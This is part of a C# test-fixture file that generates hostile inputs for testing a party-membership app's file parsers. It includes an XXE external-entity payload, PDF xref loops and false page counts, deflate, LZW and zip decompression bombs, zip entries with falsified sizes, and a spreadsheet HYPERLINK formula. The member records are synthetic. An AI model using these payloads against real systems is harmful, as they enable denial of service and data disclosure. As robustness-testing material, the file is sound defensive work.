        yield return ("xxe-http", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1:9/x\">]>" + body);
        yield return ("utf7-declared", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + root);
        yield return ("not-xml", "Đây không phải XML <<<>>>");
    }

    private static string WordXml(string text) =>
        $"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>";

    // ---- PDF

    internal static byte[] PdfWithContent(byte[] stream, string filter) =>
        BuildPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", StreamObject($"/Filter {filter}", stream)]);

    private static byte[] PdfWithContents(IReadOnlyList<byte[]> streams)
    {
        var objects = new List<object>
        {
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents [{string.Join(' ', streams.Select((_, i) => $"{i + 5} 0 R"))}] >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        };
        objects.AddRange(streams.Select(s => (object)StreamObject("/Filter /FlateDecode", s)));
        return BuildPdf(objects);
    }

    private static byte[] PdfWithToUnicode(byte[] cmap) =>
        BuildPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>", StreamObject("", "BT /F1 12 Tf 50 800 Td (Hello) Tj ET"u8.ToArray()),
            StreamObject("/Filter /FlateDecode", cmap)]);

    private static byte[] PdfWithPages(int pages)
    {
        var objects = new List<object> { "<< /Type /Catalog /Pages 2 0 R >>" };
        objects.Add($"<< /Type /Pages /Kids [{string.Join(' ', Enumerable.Range(0, pages).Select(i => $"{i + 3} 0 R"))}] /Count {pages} >>");
        objects.AddRange(Enumerable.Range(0, pages).Select(_ => (object)"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"));
        return BuildPdf(objects);
    }

    private static byte[] PdfWithFalseCount() =>
        BuildPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>", StreamObject("", "BT ET"u8.ToArray())]);

    private static byte[] PdfWithExtra(string entry) =>
        BuildPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {entry} >>"]);

    private static byte[] PdfWithCatalog(string entry) => PdfFromSample(s => s.Replace("<< /Type /Catalog /Pages 2 0 R >>", $"<< /Type /Catalog /Pages 2 0 R {entry} >>", StringComparison.Ordinal));

    private static byte[] PdfWithTrailer(string entry) => PdfFromSample(s => s.Replace("/Root 1 0 R >>", $"/Root 1 0 R {entry} >>", StringComparison.Ordinal));

    private static byte[] PdfWithXrefLoop() => PdfFromSample(s =>
    {
        var start = s.LastIndexOf("startxref\n", StringComparison.Ordinal) + "startxref\n".Length;
        var offset = s[start..s.IndexOf('\n', start)];
        return s.Replace("/Root 1 0 R >>", $"/Root 1 0 R /Prev {offset} >>", StringComparison.Ordinal);
    });

    /// <summary>The sample PDF edited as text (the edits keep the offsets before them; readers recover the rest).</summary>
    private static byte[] PdfFromSample(Func<string, string> edit) => Encoding.Latin1.GetBytes(edit(Encoding.Latin1.GetString(SampleFiles.Pdf(Lines))));

    private static byte[] StreamObject(string dictionary, byte[] data) =>
        [.. Encoding.ASCII.GetBytes($"<< /Length {data.Length.ToString(CultureInfo.InvariantCulture)} {dictionary} >>\nstream\n"), .. data, .. "\nendstream"u8];

    private static byte[] BuildPdf(IReadOnlyList<object> objects)
    {
        using var pdf = new MemoryStream();
        void Write(string s) => pdf.Write(Encoding.Latin1.GetBytes(s));
        Write("%PDF-1.5\n");
        var offsets = new List<long>();
        for (var i = 0; i < objects.Count; i++)
        {
            offsets.Add(pdf.Length);
            Write($"{(i + 1).ToString(CultureInfo.InvariantCulture)} 0 obj\n");
            if (objects[i] is byte[] bytes)
            {
                pdf.Write(bytes);
            }
            else
            {
                Write((string)objects[i]);
            }

            Write("\nendobj\n");
        }

        var xref = pdf.Length;
        Write($"xref\n0 {(objects.Count + 1).ToString(CultureInfo.InvariantCulture)}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            Write(offset.ToString("0000000000", CultureInfo.InvariantCulture) + " 00000 n \n");
        }

        Write($"trailer\n<< /Size {(objects.Count + 1).ToString(CultureInfo.InvariantCulture)} /Root 1 0 R >>\nstartxref\n{xref.ToString(CultureInfo.InvariantCulture)}\n%%EOF\n");
        return pdf.ToArray();
    }

    private static readonly Dictionary<(int, bool), byte[]> DeflatedCache = [];

    /// <summary>Megabytes of blanks, deflated (with or without the zlib header PDF writers use).</summary>
    internal static byte[] Deflated(int megabytes, bool zlib)
    {
        lock (DeflatedCache)
        {
            if (!DeflatedCache.TryGetValue((megabytes, zlib), out var bytes))
            {
                using var output = new MemoryStream();
                using (Stream compressor = zlib ? new ZLibStream(output, CompressionLevel.Optimal, true) : new DeflateStream(output, CompressionLevel.Optimal, true))
                {
                    compressor.Write("BT /F1 12 Tf 50 800 Td (Hello) Tj ET\n"u8);
                    var blanks = new byte[1024 * 1024];
                    Array.Fill(blanks, (byte)' ');
                    for (var i = 0; i < megabytes; i++)
                    {
                        compressor.Write(blanks);
                    }
                }

                DeflatedCache[(megabytes, zlib)] = bytes = output.ToArray();
            }

            return bytes;
        }
    }

    private static byte[] Deflate(byte[] data, bool zlib)
    {
        using var output = new MemoryStream();
        using (Stream compressor = zlib ? new ZLibStream(output, CompressionLevel.Optimal, true) : new DeflateStream(output, CompressionLevel.Optimal, true))
        {
            compressor.Write(data);
        }

        return output.ToArray();
    }

    /// <summary>Megabytes of one letter, LZW-coded as PDF writes it (9–12 bit codes, early change, a clear code when the table fills).</summary>
    private static byte[] Lzw(int megabytes)
    {
        var output = new List<byte>();
        int buffer = 0, bits = 0, width = 9;
        void Emit(int code)
        {
            buffer = (buffer << width) | code;
            bits += width;
            while (bits >= 8)
            {
                output.Add((byte)(buffer >> (bits - 8)));
                bits -= 8;
                buffer &= (1 << bits) - 1;
            }
        }

        var total = (long)megabytes * 1024 * 1024;
        Emit(256);
        long written = 0;
        while (written < total)
        {
            // A run of one byte: the table's entries are "a", "aa", "aaa"…, each code one longer.
            width = 9;
            var next = 258;
            var previousLength = 0;
            while (next < 4094 && written < total)
            {
                var length = previousLength + 1;
                var code = length == 1 ? 'a' : 258 + length - 2;
                if (length > 1 && code >= next)
                {
                    break;
                }

                Emit(code);
                written += length;
                next++;
                previousLength = length;

                // The reader's table is one entry behind the writer's: it widens one code later.
                if (next >= 1 << width && width < 12)
                {
                    width++;
                }
            }

            Emit(256);
        }

        Emit(257);
        if (bits > 0)
        {
            output.Add((byte)(buffer << (8 - bits)));
        }

        return [.. output];
    }

    /// <summary>Megabytes of RunLength pairs, each decoding to 128 bytes.</summary>
    private static byte[] RunLength(int megabytes)
    {
        var data = new byte[megabytes * 1024 * 1024];
        for (var i = 0; i + 1 < data.Length; i += 2)
        {
            data[i] = 129;
            data[i + 1] = (byte)' ';
        }

        return data;
    }

    // ---- zip (docx, xlsx)

    private static byte[] Zip(params (string Name, byte[] Data)[] entries)
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, true))
        {
            foreach (var (name, data) in entries)
            {
                using var s = zip.CreateEntry(name, CompressionLevel.Optimal).Open();
                s.Write(data);
            }
        }

        return output.ToArray();
    }

    private static byte[] EmptyZip() => Zip();

    private static byte[] Gzip(byte[] data)
    {
        using var output = new MemoryStream();
        using (var gzip = new GZipStream(output, CompressionLevel.Optimal, true))
        {
            gzip.Write(data);
        }

        return output.ToArray();
    }

    /// <summary>The archive with one entry's content replaced (or added).</summary>
    private static byte[] ReplaceEntry(byte[] archive, string name, byte[] data) => Rewrite(archive, (entry, write) =>
    {
        if (entry is null)
        {
            write(name, data);
        }
        else if (entry.FullName != name)
        {
            using var s = entry.Open();
            using var copy = new MemoryStream();
            s.CopyTo(copy);
            write(entry.FullName, copy.ToArray());
        }
    });

    private static byte[] Rewrite(byte[] archive, Action<ZipArchiveEntry?, Action<string, byte[]>> each, CompressionLevel level = CompressionLevel.Optimal)
    {
        using var output = new MemoryStream();
        using (var target = new ZipArchive(output, ZipArchiveMode.Create, true))
        using (var source = new ZipArchive(new MemoryStream(archive)))
        {
            void Write(string name, byte[] data)
            {
                using var s = target.CreateEntry(name, level).Open();
                s.Write(data);
            }

            foreach (var entry in source.Entries)
            {
                each(entry, Write);
            }

            each(null, Write);
        }

        return output.ToArray();
    }

    private static byte[] Repeated(int megabytes, byte value)
    {
        var data = new byte[megabytes * 1024 * 1024];
        Array.Fill(data, value);
        return data;
    }

    internal static byte[] WordBomb(int megabytes)
    {
        var xml = WordXml("{0}").Split("{0}");
        var head = Encoding.UTF8.GetBytes(xml[0]);
        var tail = Encoding.UTF8.GetBytes(xml[1]);
        return ReplaceEntry(SampleFiles.Docx("Bom"), "word/document.xml", [.. head, .. Repeated(megabytes, (byte)' '), .. tail]);
    }

    private static byte[] ManyEntries(byte[] archive, int extra) => Rewrite(archive, (entry, write) =>
    {
        if (entry is null)
        {
            for (var i = 0; i < extra; i++)
            {
                write($"customXml/item{i}.xml", "<a/>"u8.ToArray());
            }
        }
        else
        {
            using var s = entry.Open();
            using var copy = new MemoryStream();
            s.CopyTo(copy);
            write(entry.FullName, copy.ToArray());
        }
    });

    private static byte[]? _compressible;

    /// <summary>Parts that inflate past 200 MB in all, each compressed only about 25 times (under the ratio limit).</summary>
    private static byte[] LargeTotal(byte[] archive, int parts, int megabytes)
    {
        var data = _compressible ??= Compressible(megabytes);
        return Rewrite(archive, (entry, write) =>
        {
            if (entry is null)
            {
                for (var i = 0; i < parts; i++)
                {
                    write($"customXml/big{i}.bin", data);
                }
            }
            else
            {
                using var s = entry.Open();
                using var copy = new MemoryStream();
                s.CopyTo(copy);
                write(entry.FullName, copy.ToArray());
            }
        }, CompressionLevel.Fastest);
    }

    /// <summary>Letters with a random byte every 60: too varied for a deflate window to compress more than some 25 times.</summary>
    private static byte[] Compressible(int megabytes)
    {
        var noise = new byte[4099];
        new Random(7).NextBytes(noise);
        var data = new byte[megabytes * 1024 * 1024];
        Array.Fill(data, (byte)'a');
        for (var i = 0; i < data.Length; i += 60)
        {
            data[i] = noise[(i / 60) % noise.Length];
        }

        return data;
    }

    /// <summary>The archive with one part's declared size changed to 100 bytes in both headers (its data unchanged).</summary>
    private static byte[] LyingSize(byte[] archive, string name)
    {
        var bytes = (byte[])archive.Clone();
        var nameBytes = Encoding.UTF8.GetBytes(name);
        for (var i = 0; i + 46 < bytes.Length; i++)
        {
            var signature = BitConverter.ToUInt32(bytes, i);
            if (signature == 0x04034b50 && bytes.AsSpan(i + 30, Math.Min(nameBytes.Length, bytes.Length - i - 30)).SequenceEqual(nameBytes))
            {
                BitConverter.TryWriteBytes(bytes.AsSpan(i + 22), 100u);
            }
            else if (signature == 0x02014b50 && bytes.AsSpan(i + 46, Math.Min(nameBytes.Length, bytes.Length - i - 46)).SequenceEqual(nameBytes))
            {
                BitConverter.TryWriteBytes(bytes.AsSpan(i + 24), 100u);
            }
        }

        return bytes;
    }

    // ---- member sheets

    internal static Dictionary<string, string> MemberRow(int serial)
    {
        var birth = new DateOnly(1970, 1, 1).AddDays(serial % 9000);
        var gender = serial % 2 == 0 ? Gender.Female : Gender.Male;
        return new Dictionary<string, string>
        {
            [MemberSheet.FullName] = $"Đảng Viên Thử {Words(serial)}",
            [MemberSheet.Gender] = gender == Gender.Female ? "Nữ" : "Nam",
            [MemberSheet.BirthDate] = MemberSheet.Date(birth),
            [MemberSheet.Cccd] = ChiBo.Members.Cccd.Compose(89, birth, gender, 100_000 + serial),
            [MemberSheet.Ethnicity] = "Kinh",
            [MemberSheet.CellCode] = Cell,
            [MemberSheet.AdmittedOn] = "01/03/2015",
            [MemberSheet.GeneralEducation] = "THPT",
            [MemberSheet.YouthUnion] = "Không",
        };
    }

    /// <summary>A number as letters, so generated names read as names.</summary>
    private static string Words(int n)
    {
        string[] syllables = ["An", "Bình", "Chi", "Dũng", "Giang", "Hà", "Khoa", "Lan", "Minh", "Nga"];
        var parts = new List<string>();
        do
        {
            parts.Add(syllables[n % 10]);
            n /= 10;
        }
        while (n > 0);
        return string.Join(' ', parts);
    }

    internal static Dictionary<string, string> With(Dictionary<string, string> row, string header, string value) => new(row) { [header] = value };

    internal static byte[] Sheet(IReadOnlyList<Dictionary<string, string>> rows)
    {
        using var buffer = new MemoryStream();
        MemberSheet.Write(buffer, MemberSheet.Headers, rows.Select(r => (IReadOnlyList<string?>)MemberSheet.Headers.Select(h => r.GetValueOrDefault(h)).ToList()));
        return buffer.ToArray();
    }

    private static byte[] EditSheet(byte[] xlsx, Func<string, string> edit) => Rewrite(xlsx, (entry, write) =>
    {
        if (entry is null)
        {
            return;
        }

        using var s = entry.Open();
        using var copy = new MemoryStream();
        s.CopyTo(copy);
        var data = copy.ToArray();
        write(entry.FullName, entry.FullName == "xl/worksheets/sheet1.xml" ? Encoding.UTF8.GetBytes(edit(Encoding.UTF8.GetString(data))) : data);
    });

    internal static byte[] WithDimension(byte[] xlsx, string range) => EditSheet(xlsx, xml =>
        System.Text.RegularExpressions.Regex.IsMatch(xml, "<(x:)?dimension ")
            ? System.Text.RegularExpressions.Regex.Replace(xml, "<(x:)?dimension ref=\"[^\"]*\"", m => $"<{m.Groups[1].Value}dimension ref=\"{range}\"")
            : System.Text.RegularExpressions.Regex.Replace(xml, "<(x:)?sheetData", m => $"<{m.Groups[1].Value}dimension ref=\"{range}\" /><{m.Groups[1].Value}sheetData", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(5)));

    /// <summary>An inline-string cell added at the end of the row the reference names.</summary>
    private static byte[] WithExtraCell(byte[] xlsx, string reference, string value) => EditSheet(xlsx, xml =>
    {
        var row = new string(reference.Where(char.IsAsciiDigit).ToArray());
        var prefix = xml.Contains("<x:row", StringComparison.Ordinal) ? "x:" : "";
        var close = $"</{prefix}row>";
        var at = xml.IndexOf($"<{prefix}row r=\"{row}\"", StringComparison.Ordinal);
        at = xml.IndexOf(close, at, StringComparison.Ordinal);
        return xml.Insert(at, $"<{prefix}c r=\"{reference}\" t=\"inlineStr\"><{prefix}is><{prefix}t>{value}</{prefix}t></{prefix}is></{prefix}c>");
    });

    /// <summary>The workplace of the first data row as a formula with a cached value; the value is what is read.</summary>
    private static byte[] WithFormula(byte[] xlsx) => EditSheet(xlsx, xml =>
    {
        var prefix = xml.Contains("<x:row", StringComparison.Ordinal) ? "x:" : "";
        var close = $"</{prefix}row>";
        var at = xml.IndexOf(close, xml.IndexOf($"<{prefix}row r=\"2\"", StringComparison.Ordinal), StringComparison.Ordinal);
        return xml.Insert(at, $"<{prefix}c r=\"AC2\" t=\"str\"><{prefix}f>HYPERLINK(\"http://x.example/\"&amp;A2,\"Bấm\")</{prefix}f><{prefix}v>Bấm</{prefix}v></{prefix}c>");
    });

    /// <summary>One more data row at the sheet's last row, 1.048.576.</summary>
    private static byte[] WithFarRow(byte[] xlsx) => EditSheet(xlsx, xml =>
    {
        var prefix = xml.Contains("<x:row", StringComparison.Ordinal) ? "x:" : "";
        var end = $"</{prefix}sheetData>";
        return xml.Replace(end, $"<{prefix}row r=\"1048576\"><{prefix}c r=\"A1048576\" t=\"inlineStr\"><{prefix}is><{prefix}t>Xa</{prefix}t></{prefix}is></{prefix}c></{prefix}row>{end}", StringComparison.Ordinal);
    });

    // ---- transfer packages

    internal static string Package(int serial)
    {
        var birth = new DateOnly(1980, 1, 1).AddDays(serial % 5000);
        var gender = serial % 2 == 0 ? Gender.Female : Gender.Male;
        return new TransferPackage
        {
            Schema = TransferPolicy.PackageSchema,
            FromProvince = "Tỉnh Thử Nghiệm",
            FromCellCode = "TN.01.02",
            FromCellName = "Chi bộ thôn Một",
            Destination = "Đảng ủy xã A, tỉnh An Giang",
            LetterNumber = $"{serial.ToString(CultureInfo.InvariantCulture)}-GGT/ĐU",
            LetterDate = new DateOnly(2025, 6, 2),
            Kind = TransferKind.Official,
            Member = new MemberProfile
            {
                FullName = $"Người Chuyển Đến {Words(serial)}",
                Gender = gender,
                BirthDate = birth,
                Cccd = ChiBo.Members.Cccd.Compose(1, birth, gender, 500_000 + serial),
                GeneralEducation = GeneralEducation.UpperSecondary,
                Residence = "Thôn Một, xã Hai",
            },
            AdmittedOn = new DateOnly(2012, 3, 1),
            OfficialOn = new DateOnly(2013, 3, 1),
            Timeline = [new TimelineEntry(MemberEventKind.Admitted, new DateOnly(2012, 3, 1), "TN.01.02", "12-QĐ/ĐU", null, null)],
            ExportedAt = new DateTimeOffset(2025, 6, 2, 8, 0, 0, TimeSpan.Zero),
        }.ToJson();
    }

    /// <summary>Every value of a package with its path (objects descended, arrays whole).</summary>
    private static IEnumerable<(string[] Path, JsonNode? Value)> Paths(JsonObject node, string[]? prefix = null)
    {
        foreach (var (key, value) in node)
        {
            string[] path = [.. prefix ?? [], key];
            if (value is JsonObject child)
            {
                foreach (var inner in Paths(child, path))
                {
                    yield return inner;
                }
            }
            else
            {
                yield return (path, value);
            }
        }
    }

    /// <summary>Values of another type than the one a field holds.</summary>
    private static IEnumerable<(string Label, JsonNode? Value)> WrongValues(JsonNode? value)
    {
        var kind = value?.GetValueKind();
        if (kind != System.Text.Json.JsonValueKind.Number)
        {
            yield return ("so", JsonValue.Create(12345));
        }

        if (kind is not (System.Text.Json.JsonValueKind.True or System.Text.Json.JsonValueKind.False))
        {
            yield return ("bool", JsonValue.Create(true));
        }

        yield return ("mang", new JsonArray(JsonValue.Create("x")));
        yield return ("doi-tuong", new JsonObject { ["a"] = 1 });
        if (kind == System.Text.Json.JsonValueKind.String)
        {
            var text = value!.GetValue<string>();
            if (DateOnly.TryParse(text, CultureInfo.InvariantCulture, out _))
            {
                yield return ("ngay-sai", JsonValue.Create("2025-02-30"));
                yield return ("ngay-kieu-khac", JsonValue.Create("30/06/2025"));
            }
            else if (char.IsAsciiLetterUpper(text.FirstOrDefault()) && text.All(char.IsAsciiLetter))
            {
                yield return ("enum-la", JsonValue.Create("KhongCo"));
                yield return ("enum-so", JsonValue.Create(7));
            }
        }

        if (kind == System.Text.Json.JsonValueKind.Number)
        {
            yield return ("so-qua-lon", JsonNode.Parse("1e400"));
            yield return ("so-le", JsonValue.Create(1.5));
            yield return ("chu", JsonValue.Create("mot"));
        }
    }

    private static void Set(JsonObject root, string[] path, JsonNode? value)
    {
        var node = root;
        foreach (var key in path[..^1])
        {
            node = (JsonObject)node[key]!;
        }

        node[path[^1]] = value;
    }

    private static void Remove(JsonObject root, string[] path)
    {
        var node = root;
        foreach (var key in path[..^1])
        {
            node = (JsonObject)node[key]!;
        }

        node.Remove(path[^1]);
    }

    /// <summary>About that many characters of distinct random words: the text PostgreSQL's tsvector could not hold.</summary>
    internal static byte[] DistinctWords(int characters)
    {
        var random = new Random(11);
        var sb = new StringBuilder(characters + 16);
        while (sb.Length < characters)
        {
            for (var i = 0; i < 8; i++)
            {
                sb.Append((char)('a' + random.Next(26)));
            }

            sb.Append(sb.Length % 80 < 9 ? '\n' : ' ');
        }

        return Encoding.UTF8.GetBytes(sb.ToString());
    }
}
